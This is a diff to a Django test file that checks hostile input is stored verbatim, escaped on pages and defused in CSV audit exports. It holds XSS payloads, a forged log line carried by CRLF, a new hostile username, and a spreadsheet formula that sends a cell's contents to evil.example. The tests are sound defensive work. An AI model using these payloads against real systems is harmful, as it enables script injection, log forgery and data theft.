@@ -26,6 +26,8 @@ FORGED = "2026-11-26 12:00:00,000 INFO django.security [forged] admin granted"
 PAYLOAD = f"Looks fine\r\n{FORGED}\n{SCRIPT}<img src=x onerror=alert(2)>"
 # A display name that a spreadsheet would run as a formula.
 FORMULA_NAME = '=HYPERLINK("http://evil.example/"&A1,"click")\r\nMallory <b>bold</b>'
+# A username as a careless directory could hand it over (single sign-on takes preferred_username as is).
+HOSTILE_USERNAME = "mallory<u>x</u>\r\nINFO forged"
 
 
 def project_formatters() -> dict[str, logging.Formatter]:
@@ -56,7 +58,7 @@ def mallory(api_world: Any) -> Any:
 
     team = api_world.users["maker"].memberships.get().team
     user = services.user_create(
-        username="mallory", role="maker", display_name=FORMULA_NAME, password="correct-horse-battery",
+        username=HOSTILE_USERNAME, role="maker", display_name=FORMULA_NAME, password="correct-horse-battery",
         context=AuditContext.system(),
     )  # fmt: skip
     services.team_add_member(team=team, user=user, context=AuditContext.system())
@@ -102,6 +104,7 @@ def test_hostile_text_is_stored_exactly_as_sent(api_world: Any, hostile_flows: d
     from deployments.models import Approval, Promotion, StageFreeze
 
     assert hostile_flows["requested"].comment == PAYLOAD
+    assert hostile_flows["requested"].requested_by.username == HOSTILE_USERNAME
     rejection = Approval.objects.get(promotion_id=api_world.ids["promotion"])
     assert rejection.comment == PAYLOAD
     assert StageFreeze.objects.get(pk=hostile_flows["freeze"]["id"]).reason == PAYLOAD
@@ -122,7 +125,7 @@ def test_pages_render_hostile_text_escaped(api_world: Any, hostile_flows: dict[s
         "admin": [f"/deploy/pipelines/{api_world.ids['pipeline']}/", "/"],
         "auditor": ["/audit/", f"/deploy/promotions/{hostile_flows['requested'].pk}/"],
     }
-    shown = 0
+    shown = usernames_shown = 0
     for persona, urls in pages.items():
         client = Client()
         client.force_login(api_world.users[persona])
@@ -131,8 +134,10 @@ def test_pages_render_hostile_text_escaped(api_world: Any, hostile_flows: dict[s
             assert response.status_code == 200, url
             html = response.content.decode()
             assert SCRIPT not in html and "<img src=x" not in html and "<b>bold</b>" not in html, url
+            assert "<u>x</u>" not in html, url
             shown += html.count("&lt;script&gt;alert(1)&lt;/script&gt;") + html.count("&lt;b&gt;bold&lt;/b&gt;")
-    assert shown >= 3  # the hostile text is on the pages, escaped, not dropped
+            usernames_shown += html.count("mallory&lt;u&gt;x&lt;/u&gt;")
+    assert shown >= 3 and usernames_shown >= 1  # the hostile text is on the pages, escaped, not dropped
 
 
 def test_the_csv_audit_export_neutralises_formulas_and_keeps_rows_intact(
@@ -148,7 +153,7 @@ def test_the_csv_audit_export_neutralises_formulas_and_keeps_rows_intact(
     cells = [cell for row in events for cell in row]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     display = header.index("actor_display")
-    assert "'" + FORMULA_NAME + " (mallory)" in [row[display] for row in events]  # mallory's events, quoted
+    assert f"'{FORMULA_NAME} ({HOSTILE_USERNAME})" in [row[display] for row in events]  # mallory's events, quoted
     assert any(PAYLOAD in cell for cell in cells)  # comments survive as data
 
 
